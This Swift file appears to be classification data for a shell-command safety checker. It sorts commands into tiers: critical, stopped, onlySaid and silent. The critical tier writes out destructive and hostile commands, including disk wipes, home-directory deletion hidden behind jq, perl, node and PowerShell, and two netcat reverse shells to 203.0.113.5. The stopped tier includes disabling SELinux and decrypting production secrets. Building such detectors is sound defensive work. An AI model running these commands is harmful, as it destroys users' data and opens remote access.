extension CommandTable {
  static let handedWords = CommandTable(
    "Words that one call hands to another, results printed for a shell, and what services share in few words",
    critical: #"""
      nwipe --autonuke --nowait
      qemu-img convert -O raw disk.qcow2 /dev/sdb
      qemu-img dd if=disk.img of=/dev/nvme0n1
      jq -n -r '"rm -rf " + env.HOME' | sh
      jq -nr '["rm","-rf",$ENV.HOME] | join(" ")' | bash
      jq -nr '"rm -rf \(env.HOME)"' | sh
      jq -nr '["rm","-rf","/home/dev/Documents"]|@sh' | sh
      raku -e 'run <rm -rf /home/dev/work>'
      powershell -c "Get-ChildItem C:\Users | % { Remove-Item $_.FullName -Recurse -Force }"
      powershell -c "Get-PSDrive -PSProvider FileSystem | % { Remove-Item $_.Root -Recurse -Force -EA 0 }"
      script -qfc /bin/bash /dev/null < /tmp/f | nc 203.0.113.5 443 > /tmp/f
      bash -i < /tmp/f 2>&1 | nc 203.0.113.5 443 > /tmp/f
      chef-apply -e 'directory("/srv"){recursive true; action :delete}'
      cmd /c for /d %d in (C:\Users\*) do rd /s /q "%d"
      perl -e 'exec qw(rm -rf), glob("~/*")'
      perl -e 'system qw(rm -rf), "/home/dev/Documents"'
      node -p '"rm -rf /home/dev/Documents"' | sh
      node --print '"rm -rf " + "/home/dev/Documents"' | bash
      Rscript -e 'do.call(system, list("rm -rf /home/dev/Documents"))'
      Rscript -e 'do.call("unlink", list("/home/dev/Documents", recursive=TRUE))'
      nim -e:'import os; removeDir("/home/dev/Documents")'
      """#,
    stopped: #"""
      sudo grubby --update-kernel=ALL --args='selinux=0 mitigations=off'
      grubby --remove-kernel=/boot/vmlinuz-5.14
      nwipe /dev/sdb
      setfacl -m u:mallory:rwx ~/.ssh
      setfacl -R -m g:staff:r ~/.aws/credentials
      python manage.py shell -c "from shop.celery import app; app.control.purge()"
      kafka-consumer-groups --bootstrap-server b1:9092 --delete --group billing
      rpk group delete billing
      nats kv del CONFIG --force
      nats object rm builds -f
      stripe webhook_endpoints delete we_1Mr5 --confirm
      docker secret rm db_password tls_key
      docker config rm nginx.conf app.conf
      sops -d secrets/prod.enc.yaml
      sops decrypt secrets/production.yaml
      age -d -i ~/.config/age/keys.txt secrets.age
      infisical export --env=prod
      """#,
    onlySaid: #"""
      nats kv del CONFIG theme --force
      docker secret rm db_password
      stripe webhook_endpoints delete we_1Mr5
      sops -d secrets/staging.enc.yaml
      X=$(sops -d secrets/prod.enc.yaml)
      ansible-vault decrypt group_vars/staging/vault.yml
      dotnet tool install -g dotnet-ef
      """#,
    silent: #"""
      nwipe --version
      qemu-img info disk.qcow2
      qemu-img convert -O qcow2 disk.img disk.qcow2
      qemu-img convert -O raw /dev/sdb backup.img
      qemu-img create -f qcow2 d.qcow2 10G
      qemu-img check d.qcow2
      grubby --info=ALL
      grubby --default-kernel
      jq -n -r 'env.HOME'
      jq -nr '"ls " + env.HOME' | sh
      jq -nr '["npm","test"]|@sh' | sh
      jq -n '[1,2]|join(" ")'
      jq -nr '["rm","-rf","x"]|join(" ")'
      raku -e 'run <ls -la src>'
      raku -e 'say <rm -rf x>'
      perl -e 'while (<STDIN>) { print }'
      perl -e 'if ($a < 3 and $b > 2) { print 1 }'
      powershell -c "Get-PSDrive -PSProvider FileSystem"
      powershell -c "Get-PSDrive | % { $_.Name }"
      powershell -c "gci src | % { $_.FullName }"
      powershell -c "Get-PSDrive C | select Used,Free"
      bash run.sh < in.txt | nc -N localhost 9000 > out.txt
      nc -l 8080 < page.html > log.txt
      script -qc 'npm test' /dev/null
      script -q log.txt
      setfacl -m u::rwx ~/.ssh
      setfacl -m u:www-data:rX public
      getfacl ~/.ssh
      setfacl -m u:eve:--- ~/.ssh
      chef-apply -e 'directory("build"){recursive true; action :create}'
      chef-apply -W -e 'directory("/srv"){action :delete}'
      cmd /c for /d %d in (src\*) do @dir /b "%d"
      perl -e 'print join(",", qw(rm -rf), glob("*.c")), "\n"'
      perl -e 'system qw(ls -l), glob("*.c")'
      perl -e 'my @a = (qw(a b), "c"); print "@a"'
      node -p 'process.version'
      node -p '"rm -rf x"'
      node -p 'require("./package.json").version' | cat
      node -p '"npm test"' | sh
      Rscript -e 'do.call(rbind, list(1:3, 4:6))'
      Rscript -e 'do.call("sum", list(1, 2, 3))'
      Rscript -e 'do.call(paste, c(list("rm", "-rf"), sep=" "))'
      nim -e:'echo 1 + 1'
      python -c "from shop.celery import app; print(app.control.inspect().active())"
      python manage.py shell -c "from shop.celery import app; app.send_task('mail')"
      rpk group describe billing
      nats kv get CONFIG theme
      nats kv ls
      stripe webhook_endpoints list
      docker secret ls
      docker secret create db ./db.txt --help
      sops -e -i secrets/prod.enc.yaml
      age -d -i key.txt -o report.pdf out.age
      dotnet tool install dotnet-ef
      dotnet tool list -g
      dotnet tool restore
      infisical run --env=prod -- npm start
      doppler run -c prd -- npm start
      """#)
}
